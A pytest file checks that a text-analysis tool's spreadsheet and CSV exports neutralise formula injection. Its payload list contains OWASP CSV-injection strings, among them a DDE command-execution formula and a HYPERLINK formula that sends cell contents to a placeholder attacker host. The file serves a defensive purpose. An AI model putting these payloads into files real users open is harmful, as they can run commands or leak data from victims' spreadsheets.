"""Issue 18 item 14, formula injection: the plain tables stay exact data; `framing export` makes safe copies.

The payloads are OWASP's CSV-injection examples, put in every field a user controls (id, source, title, text).
"""

from __future__ import annotations

import csv
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

import framing
from framing.cli import main
from framing.contract import FORMULA_STARTS, escape_cell, write_safe_csv, write_xlsx
from framing.contract import spreadsheet as spreadsheet_module

PAYLOADS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?d="&A1,"Click here")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "\t=1",
    "\r=1",
    "=1+1",
]


def _records() -> list[dict[str, str]]:
    return [
        {
            "id": payload,
            "source": payload,
            "title": payload,
            "story": "talks",
            "text": f"{payload}\n\n{payload} said the minister on Monday. The talks went badly, officials said.",
        }
        for payload in PAYLOADS
    ]


@pytest.fixture(scope="module")
def run(tmp_path_factory: pytest.TempPathFactory) -> tuple[framing.Result, Path]:
    out = tmp_path_factory.mktemp("payloads") / "results"
    result = framing.analyze_into(_records(), out, framing.RunOptions(progress=False))
    return result, out


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _workbook_cells(path: Path) -> list[openpyxl.cell.Cell]:
    workbook = openpyxl.load_workbook(path)
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def test_plain_csv_holds_every_payload_exactly_for_pandas(run: tuple[framing.Result, Path]) -> None:
    result, out = run
    articles = pd.read_csv(out / "articles.csv", dtype=str, keep_default_na=False)
    for column in ("article_id", "source", "title"):
        assert articles[column].tolist() == result.articles[column].tolist()
    # what framing read is what it wrote: the reader strips the whitespace around a field, nothing else
    assert set(result.articles["source"]) == {p.strip() for p in PAYLOADS}
    sentences = pd.read_csv(out / "sentences.csv", dtype={"text": str, "article_id": str}, keep_default_na=False)
    assert sentences["text"].tolist() == result.sentences["text"].tolist()
    assert sentences["text"].str.startswith(FORMULA_STARTS).any()


def test_xlsx_export_writes_no_formula_and_keeps_every_payload_as_text(
    run: tuple[framing.Result, Path], tmp_path: Path
) -> None:
    result, out = run
    path = tmp_path / "results.xlsx"
    assert main(["export", str(out), "--xlsx", str(path)]) == 0
    cells = _workbook_cells(path)
    assert cells and [c.coordinate for c in cells if c.data_type == "f"] == []
    articles = openpyxl.load_workbook(path)["articles"]
    header = [c.value for c in articles[1]]
    for column in ("article_id", "source", "title"):
        index = header.index(column)
        column_cells = [row[index] for row in articles.iter_rows(min_row=2)]
        # an .xlsx file is XML, whose line ends are read back as line feeds: a carriage return shows as a line break
        expected = [v.replace("\r\n", "\n").replace("\r", "\n") for v in result.articles[column]]
        assert [c.value for c in column_cells] == expected
        assert {c.data_type for c in column_cells} == {"s"}
    text = openpyxl.load_workbook(path)["sentences"]
    index = [c.value for c in text[1]].index("text")
    starting = [row[index] for row in text.iter_rows(min_row=2) if str(row[index].value).startswith(FORMULA_STARTS)]
    assert starting and {c.data_type for c in starting} == {"s"}


def test_xlsx_keeps_numbers_numbers_negative_ones_too(tmp_path: Path) -> None:
    tables = {
        "articles": pd.DataFrame(
            {"article_id": ["a", "b"], "words": [3, 4], "sentiment_mean": [-0.5, None], "source": ["-0.5", "#N/A"]}
        )
    }
    sheet = openpyxl.load_workbook(write_xlsx(tables, tmp_path / "t.xlsx"))["articles"]
    assert [(c.value, c.data_type) for c in sheet[2]] == [("a", "s"), (3, "n"), (-0.5, "n"), ("-0.5", "s")]
    assert [(c.value, c.data_type) for c in sheet[3]] == [("b", "s"), (4, "n"), (None, "n"), ("#N/A", "s")]


def test_xlsx_is_the_same_bytes_for_the_same_tables(run: tuple[framing.Result, Path], tmp_path: Path) -> None:
    _, out = run
    first = write_xlsx(out, tmp_path / "one.xlsx").read_bytes()
    assert write_xlsx(out, tmp_path / "two.xlsx").read_bytes() == first


def test_xlsx_says_where_excel_could_not_hold_a_text(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(spreadsheet_module, "MAX_SHEET_ROWS", 3)
    long = "word " * 8000  # 40,000 characters: more than a cell holds
    tables = {"paragraphs": pd.DataFrame({"article_id": ["a", "b", "c"], "text": [long, "bell\x07", "fine"]})}
    workbook = openpyxl.load_workbook(write_xlsx(tables, tmp_path / "t.xlsx"))
    assert workbook.sheetnames == ["paragraphs", "paragraphs (2)", "export notes"]
    first, second = workbook["paragraphs"], workbook["paragraphs (2)"]
    assert [c.value for c in first[1]] == [c.value for c in second[1]] == ["article_id", "text"]
    assert len(first["B2"].value) == spreadsheet_module.MAX_CELL_CHARS and first["B2"].value.endswith("export notes]")
    assert first["B3"].value == "bell\ufffd" and second["A2"].value == "c"
    notes = [[c.value for c in row] for row in workbook["export notes"].iter_rows(min_row=2)]
    assert [note[:3] for note in notes] == [["paragraphs", "text", 2], ["paragraphs", "text", 3]]


def test_safe_csv_quotes_every_field_and_escapes_text_that_starts_like_a_formula(
    run: tuple[framing.Result, Path], tmp_path: Path
) -> None:
    result, out = run
    folder = tmp_path / "safe"
    assert main(["export", str(out), "--safe-csv", str(folder)]) == 0
    raw = (folder / "articles.csv").read_bytes().decode("utf-8")  # read_text would make a bare CR a line end
    with (folder / "articles.csv").open(encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))
    assert all(line.startswith('"') for line in raw.split("\n") if line)  # every field quoted
    header, body = rows[0], rows[1:]
    sources = [row[header.index("source")] for row in body]
    assert sources == [escape_cell(s) for s in result.articles["source"]]
    assert all(_is_number(cell) for row in body for cell in row if cell.startswith(FORMULA_STARTS))
    numbers = [row[header.index("sentiment_mean")] for row in body if row[header.index("sentiment_mean")]]
    assert numbers and all(float(v) == float(v) for v in numbers)  # numbers are never escaped


def test_safe_csv_leaves_negative_numbers_numbers(tmp_path: Path) -> None:
    tables = {"estimates": pd.DataFrame({"group": ["-2+3", "AP"], "estimate": [-0.5, 0.25], "n": [2, 3]})}
    [path] = write_safe_csv(tables, tmp_path / "safe")
    assert path.read_text(encoding="utf-8").split("\n")[1:3] == ['"\'-2+3","-0.5","2"', '"AP","0.25","3"']


def test_export_refuses_what_would_overwrite_or_needs_an_output(
    run: tuple[framing.Result, Path], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    _, out = run
    assert main(["export", str(out)]) == 2
    assert main(["export", str(out), "--safe-csv", str(out)]) == 2
    existing = tmp_path / "mine.xlsx"
    existing.write_bytes(b"not framing's")
    assert main(["export", str(out), "--xlsx", str(existing)]) == 2
    assert existing.read_bytes() == b"not framing's"
    assert main(["export", str(out), "--xlsx", str(tmp_path / "book.csv")]) == 2
    assert main(["export", str(tmp_path / "missing"), "--xlsx", str(tmp_path / "b.xlsx")]) == 2
    errors = [line for line in capsys.readouterr().err.splitlines() if line]
    assert len(errors) == 5 and all(line.startswith("framing: error: ") for line in errors)
